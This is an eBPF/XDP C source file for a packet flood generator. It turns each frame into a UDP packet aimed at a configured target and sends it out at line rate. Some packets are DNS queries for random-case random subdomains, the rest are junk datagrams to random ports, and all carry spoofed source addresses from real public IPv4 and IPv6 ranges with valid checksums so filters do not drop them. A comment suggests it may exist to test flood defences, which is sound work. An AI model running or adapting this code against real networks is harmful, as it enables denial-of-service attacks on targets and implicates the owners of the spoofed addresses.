/* SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause */
/*
 * flood.bpf.c - turns the frame BPF_PROG_RUN hands in into one packet of the flood and sends it down the wire.
 *
 * Every stream (one thread on one CPU) loads its own copy, so the variables below have one writer and need no per-CPU map. Live
 * frames are recycled: a frame comes back holding an earlier packet, so each packet is written whole, headers included.
 *
 * DNS packets ask for LABEL.flood.example with a random label of 8 to 20 letters, every letter in random case. All checksums are
 * right, UDP over IPv4 included: a flood that the first check throws away would flatter whoever stands behind it.
 */
#include <linux/bpf.h>
#include <bpf/bpf_endian.h>
#include <bpf/bpf_helpers.h>
#include <linux/if_ether.h>
#include <linux/in.h>
#include <linux/ip.h>
#include <linux/ipv6.h>
#include <linux/udp.h>

#include "flood.h"

#define LABEL_MIN 8
#define LABEL_MAX 20
#define LETTERS 24 /* drawn eight at a time; what the label does not use is overwritten by the suffix */
#define DNS_HEADER 12
#define SUFFIX 19 /* "\5flood\7example\0", type, class */
#define DNS_MAX (DNS_HEADER + 1 + LABEL_MAX + SUFFIX)
#define GARBAGE 20 /* a frame of 62 bytes over IPv4; behind its first eight bytes it keeps what the frame held before */

const volatile struct flood_config config;
struct flood_counters counters;
__u64 dice = 1;

static const __u8 suffix[SUFFIX] = "\5flood\7example\0\0\1\0\1";

#define HEADERS_MAX (sizeof(struct ethhdr) + sizeof(struct ipv6hdr) + sizeof(struct udphdr))
_Static_assert(HEADERS_MAX + DNS_MAX + LETTERS - LABEL_MIN <= FLOOD_FRAME, "room for the longest packet");

/* Fields written one by one are read back as words for the checksums. */
typedef __u32 __attribute__((may_alias)) word32;
typedef __u64 __attribute__((may_alias)) word64;

/* xorshift64*: a few cycles, where bpf_get_prandom_u32() is a call into per-CPU state. */
static __always_inline __u64 roll(void)
{
	__u64 x = dice;

	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	dice = x;
	return x * 0x2545f4914f6cdd1dULL;
}

static __always_inline __u64 sum32(const void *from, int words)
{
	const word32 *word = from;
	__u64 sum = 0;

#pragma unroll
	for (int i = 0; i < words; i++)
		sum += word[i];
	return sum;
}

static __always_inline __u16 fold(__u64 sum)
{
	sum = (sum >> 32) + (sum & 0xffffffff);
	sum = (sum >> 32) + (sum & 0xffffffff);
	sum = (sum >> 16) + (sum & 0xffff);
	sum = (sum >> 16) + (sum & 0xffff);
	return (__u16)~sum;
}

/* Eight letters a-p in random case: four bits choose the letter, one the case. */
static __always_inline __u64 letters(void)
{
	__u64 r = roll();

	return 0x4141414141414141ULL + (r & 0x0f0f0f0f0f0f0f0fULL) + ((r >> 1) & 0x2020202020202020ULL);
}

/* Write a question at `dns`, which has FLOOD_FRAME minus the headers behind it. Its length, or 0 to please the verifier. */
static __always_inline __u32 question(__u8 *dns, const void *data_end, __u64 r)
{
	__u32 label = LABEL_MIN + ((r >> 8) & 0xff) % (LABEL_MAX - LABEL_MIN + 1);
	word64 *head = (word64 *)dns, *name = (word64 *)(dns + DNS_HEADER + 1), *tail;
	__u64 mixed = roll();

	if ((const void *)(name + LETTERS / 8) > data_end)
		return 0;
	head[0] = bpf_cpu_to_be64(((r >> 16) & 0xffff) << 48 | 0x010000010000ULL); /* id, recursion desired, one question */
	*(word32 *)(head + 1) = 0;
	dns[DNS_HEADER] = (__u8)label;
	name[0] = letters();
	name[1] = letters();
	name[2] = letters();

	tail = (word64 *)(dns + DNS_HEADER + 1 + label);
	if ((const void *)((__u8 *)tail + SUFFIX + LABEL_MAX - LABEL_MIN) > data_end)
		return 0;
	__builtin_memcpy(tail, suffix, SUFFIX);
	tail[0] ^= mixed & bpf_cpu_to_be64(0x0020202020200020ULL);
	tail[1] ^= (mixed >> 1) & bpf_cpu_to_be64(0x2020202020200000ULL);
	__builtin_memset((__u8 *)tail + SUFFIX, 0, LABEL_MAX - LABEL_MIN); /* the checksum runs over DNS_MAX bytes */
	return DNS_HEADER + 1 + label + SUFFIX;
}

/* Payload and UDP header at `udp`, its checksum without the addresses in *ret_sum. The UDP length. */
static __always_inline __u32 datagram(struct udphdr *udp, const void *data_end, __u64 r, int is_dns, __u64 *ret_sum)
{
	__u8 *payload = (__u8 *)(udp + 1);
	__u32 len, port = (r >> 32) & 0xffff;

	if (payload + DNS_MAX > (const __u8 *)data_end)
		return 0;
	if (is_dns) {
		port = FLOOD_DNS_PORT;
		len = question(payload, data_end, r);
		*ret_sum = sum32(payload, DNS_MAX / 4);
	} else {
		port += port == FLOOD_DNS_PORT;
		len = GARBAGE;
		*(word64 *)payload = r;
		*ret_sum = sum32(payload, GARBAGE / 4);
	}
	udp->source = bpf_htons(1024 + (r >> 48) % 64512);
	udp->dest = bpf_htons((__u16)port);
	udp->len = bpf_htons((__u16)(sizeof(*udp) + len));
	udp->check = 0;
	*ret_sum += sum32(udp, 2) + udp->len + bpf_htons(IPPROTO_UDP);
	return sizeof(*udp) + len;
}

static __always_inline void ethernet(struct ethhdr *eth, __u16 proto)
{
	__u16 *to = (__u16 *)eth->h_dest, *from = (__u16 *)eth->h_source;

#pragma unroll
	for (int i = 0; i < ETH_ALEN / 2; i++) { /* not memcpy(): without its volatile, config would be taken for zeros */
		to[i] = config.dst_mac[i];
		from[i] = config.src_mac[i];
	}
	eth->h_proto = bpf_htons(proto);
}

/* The whole IPv4 packet: its frame length, or 0 to please the verifier. */
static __always_inline __u32 packet4(void *frame, const void *data_end, __u64 r, int is_dns)
{
	struct ethhdr *eth = frame;
	struct iphdr *ip = (struct iphdr *)(eth + 1);
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	__u64 sum = 0;
	__u32 len;

	if ((const void *)(udp + 1) > data_end)
		return 0;
	len = datagram(udp, data_end, r, is_dns, &sum);
	ethernet(eth, ETH_P_IP);
	*(word32 *)ip = bpf_htonl(0x45000000 + sizeof(*ip) + len);
	ip->id = (__u16)r;
	ip->frag_off = 0;
	ip->ttl = 64;
	ip->protocol = IPPROTO_UDP;
	ip->check = 0;
	ip->saddr = ((__u32)roll() & bpf_htonl(0x3fffffff)) + bpf_htonl(0x10000000); /* 16.0.0.0 to 79.255.255.255 */
	ip->daddr = config.dst4;
	ip->check = fold(sum32(ip, sizeof(*ip) / 4));
	udp->check = fold(sum + sum32(&ip->saddr, 2)) ?: 0xffff; /* 0 would say: no checksum */
	return sizeof(*eth) + sizeof(*ip) + len;
}

static __always_inline __u32 packet6(void *frame, const void *data_end, __u64 r, int is_dns)
{
	struct ethhdr *eth = frame;
	struct ipv6hdr *ip = (struct ipv6hdr *)(eth + 1);
	struct udphdr *udp = (struct udphdr *)(ip + 1);
	word64 *saddr = (word64 *)&ip->saddr, *daddr = (word64 *)&ip->daddr;
	__u64 sum = 0;
	__u32 len;

	if ((const void *)(udp + 1) > data_end)
		return 0;
	len = datagram(udp, data_end, r, is_dns, &sum);
	ethernet(eth, ETH_P_IPV6);
	*(word32 *)ip = bpf_htonl(0x60000000);
	ip->payload_len = bpf_htons((__u16)len);
	ip->nexthdr = IPPROTO_UDP;
	ip->hop_limit = 64;
	saddr[0] = (roll() & bpf_cpu_to_be64(0x00ffffffffffffffULL)) + bpf_cpu_to_be64(0x2600000000000000ULL); /* 2600::/8 */
	saddr[1] = roll();
	daddr[0] = config.dst6[0];
	daddr[1] = config.dst6[1];
	udp->check = fold(sum + sum32(saddr, 8)) ?: 0xffff;
	return sizeof(*eth) + sizeof(*ip) + len;
}

SEC("xdp")
int flood_xdp(struct xdp_md *ctx)
{
	void *data = (void *)(long)ctx->data;
	const void *data_end = (const void *)(long)ctx->data_end;
	__u64 r = roll();
	int is_dns = (__u32)(roll() >> 32) < config.dns_share;
	__u32 len = (__u8)r < config.share6 ? packet6(data, data_end, r, is_dns) : packet4(data, data_end, r, is_dns);

	if (!len || bpf_xdp_adjust_tail(ctx, (int)len - FLOOD_FRAME))
		return XDP_ABORTED;
	if (is_dns)
		counters.dns++;
	else
		counters.garbage++;
	return bpf_redirect(config.ifindex, 0);
}

char LICENSE[] SEC("license") = "Dual BSD/GPL";
